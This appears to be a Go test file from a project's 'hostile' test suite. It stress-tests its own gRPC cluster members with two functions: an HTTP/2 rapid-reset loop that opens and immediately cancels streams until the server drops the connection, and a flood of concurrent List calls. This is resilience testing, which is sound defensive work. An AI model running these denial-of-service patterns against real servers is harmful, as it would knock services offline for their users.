package hostile_test

import (
	"context"

	"golang.org/x/net/http2"
	"google.golang.org/protobuf/proto"

	tenurev1 "github.com/tenure-io/tenure/gen/go/tenure/v1"
)

// resetRapidly begins calls and takes each back at once, until the member hangs up, again and again.
func resetRapidly(ctx context.Context, a *attacker) error {
	message, err := proto.Marshal(&tenurev1.ListRequest{})
	if err != nil {
		return err
	}
	message = framed(len(message), message)
	for range a.count(1, 20) {
		w, err := a.wire(ctx, a.Members[0].GRPC)
		if err != nil {
			return err
		}
		for stream := uint32(1); w.spend(len(message)); stream += 2 {
			if w.call(stream, tenurev1.KVService_List_FullMethodName) != nil || w.WriteData(stream, true, message) != nil ||
				w.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
				break
			}
		}
		<-w.gone
	}
	return nil
}

// listMuch makes the same calls, by clients that read the answers.
func listMuch(ctx context.Context, a *attacker) error {
	conn, err := a.dial(a.Members[0].GRPC)
	if err != nil {
		return err
	}
	kv := tenurev1.NewKVServiceClient(conn)
	a.inBackground(64, a.count(10, 1<<30), func(int, int) {
		_, err := kv.List(ctx, &tenurev1.ListRequest{})
		a.answered("list", err)
	})
	return nil
}
